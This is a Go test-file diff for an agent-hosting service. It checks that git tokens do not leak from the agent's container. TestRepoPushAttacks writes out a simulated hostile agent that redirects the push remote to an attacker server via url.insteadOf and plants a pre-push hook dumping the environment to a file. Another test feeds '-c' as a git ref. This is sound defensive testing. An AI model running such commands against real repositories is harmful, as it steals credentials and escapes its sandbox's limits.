@@ -245,3 +245,112 @@ func TestRepoCloneDiffPush(t *testing.T) {
 		t.Errorf("grep for the token in the container printed %q", files)
 	}
 }
+
+// TestRepoCreateRefused: a repository URL holding credentials, an ssh URL
+// or a bad ref is refused with 400 naming the field, the credentials not
+// echoed, and no project is made.
+func TestRepoCreateRefused(t *testing.T) {
+	e := newProjectEnv(t, projectEnvOpts{images: []string{devImage}})
+	for _, c := range []struct {
+		repo  api.ProjectRepo
+		field string
+	}{
+		{api.ProjectRepo{URL: "https://x-access-token:ghp_leak42@github.com/o/r.git"}, "repo.url"},
+		{api.ProjectRepo{URL: "git@github.com:o/r.git"}, "repo.url"},
+		{api.ProjectRepo{URL: "https://github.com/o/r.git", Ref: "-c"}, "repo.ref"},
+	} {
+		name := uniqueProject("bad")
+		status, body := e.do("POST", "/v1/projects", "alice", api.CreateProjectRequest{Name: name, Image: devImage, Repo: &c.repo})
+		if status != http.StatusBadRequest || !strings.Contains(string(body), c.field) || strings.Contains(string(body), "ghp_leak42") {
+			t.Errorf("%+v: %d %s", c.repo, status, body)
+		}
+		if status, _ := e.do("GET", "/v1/projects/"+name, "alice", nil); status != http.StatusNotFound {
+			t.Errorf("%s was created", name)
+		}
+	}
+}
+
+// TestRepoCloneFailsUsable: a clone with a wrong token fails as a
+// repo_clone_failed event naming git's message (never the token), and
+// the turn runs anyway; diff answers 409 (no repository), not 500.
+func TestRepoCloneFailsUsable(t *testing.T) {
+	const wrong = "tok_wrong_0123456789abcdef"
+	e := newRepoEnv(t, "tok_right_0123456789abcdef")
+	url := e.git.NewRepo(t, "calc", map[string]string{"calc.py": calcPy})
+	_, chat := e.chatWithRepo(t, api.ProjectRepo{URL: url, TokenSecret: "GIT_TOKEN"}, wrong)
+	evs := e.prompt(t, chat.ID, "alice", "echo STILL-USABLE")
+	failed, ok := eventOf(evs, api.EventSystem, api.SubtypeRepoCloneFailed)
+	if !ok {
+		t.Fatalf("no repo_clone_failed: %+v", evs)
+	}
+	var d map[string]string
+	_ = json.Unmarshal(failed.Data, &d)
+	if d["url"] != url || !strings.Contains(d["error"], "Authentication failed") || strings.Contains(string(failed.Data), wrong) {
+		t.Errorf("repo_clone_failed = %s", failed.Data)
+	}
+	var text strings.Builder
+	for _, ev := range evs {
+		text.WriteString(ev.Text)
+	}
+	if !strings.Contains(text.String(), "STILL-USABLE") {
+		t.Errorf("the turn did not run: %+v", evs)
+	}
+	if status, body := e.call(t, "GET", "/v1/chats/"+chat.ID+"/diff", "alice", nil); status != http.StatusConflict {
+		t.Errorf("diff without a clone: %d %s", status, body)
+	}
+	all, _ := json.Marshal(e.events(chat.ID))
+	if bytes.Contains(all, []byte(wrong)) || strings.Contains(e.logs.String(), wrong) {
+		t.Error("the token is in the events or the log")
+	}
+}
+
+// TestRepoPushAttacks: the agent (root in its container) rewrites the
+// remote with url.insteadOf to a server of its own and plants a pre-push
+// hook that copies git's environment to a file. The push gives the token
+// to neither: the credential helper answers only the project's host, and
+// hooks do not run. Its own server sees no token; no file holds it.
+func TestRepoPushAttacks(t *testing.T) {
+	const token = "tok_attack_0123456789abcdef"
+	e := newRepoEnv(t, token)
+	evil := gitserver.New(t, "evil-password")
+	_ = evil.NewRepo(t, "calc", map[string]string{"x": "y"})
+	url := e.git.NewRepo(t, "calc", map[string]string{"calc.py": calcPy})
+	proj, chat := e.chatWithRepo(t, api.ProjectRepo{URL: url, TokenSecret: "GIT_TOKEN"}, token)
+	e.prompt(t, chat.ID, "alice", "true") // the container is made and cloned
+	evilPort := strconv.Itoa(evil.Port)
+	if out, err := exec.Command("lxc", "config", "device", "add", proj.Container, "evil", "proxy",
+		"listen=tcp:127.0.0.1:"+evilPort, "connect=tcp:127.0.0.1:"+evilPort, "bind=instance").CombinedOutput(); err != nil {
+		t.Fatalf("add the attacker's proxy: %v %s", err, out)
+	}
+	e.prompt(t, chat.ID, "alice", "git config url."+evil.URL+"/.insteadOf "+e.git.URL+"/ && "+
+		"printf '#!/bin/sh\\nenv > /tmp/hook-env\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push && echo change > f.txt")
+	status, body := e.call(t, "POST", "/v1/chats/"+chat.ID+"/push", "alice", api.PushRequest{})
+	if status == http.StatusOK {
+		t.Errorf("push to the rewritten remote succeeded: %s", body)
+	}
+	if bytes.Contains(body, []byte(token)) {
+		t.Errorf("the push answer holds the token: %s", body)
+	}
+	for _, p := range evil.Passwords() {
+		if p == token {
+			t.Error("the attacker's server received the token")
+		}
+	}
+	if _, allowed := evil.Requests(); allowed != 0 {
+		t.Errorf("the attacker's server served %d requests", allowed)
+	}
+	files, _ := exec.Command("lxc", "exec", proj.Container, "--", "grep", "-rlF", "--exclude-dir=proc", "--exclude-dir=sys", "--exclude-dir=dev",
+		"--", token, "/").CombinedOutput()
+	if len(files) != 0 {
+		t.Errorf("files holding the token: %q", files)
+	}
+
+	// Without the rewrite the push lands, and the planted hook never ran.
+	e.prompt(t, chat.ID, "alice", "git config --unset url."+evil.URL+"/.insteadOf")
+	if status, body := e.call(t, "POST", "/v1/chats/"+chat.ID+"/push", "alice", api.PushRequest{}); status != http.StatusOK {
+		t.Fatalf("push: %d %s", status, body)
+	}
+	if err := exec.Command("lxc", "exec", proj.Container, "--", "test", "-e", "/tmp/hook-env").Run(); err == nil {
+		t.Error("the planted pre-push hook ran")
+	}
+}
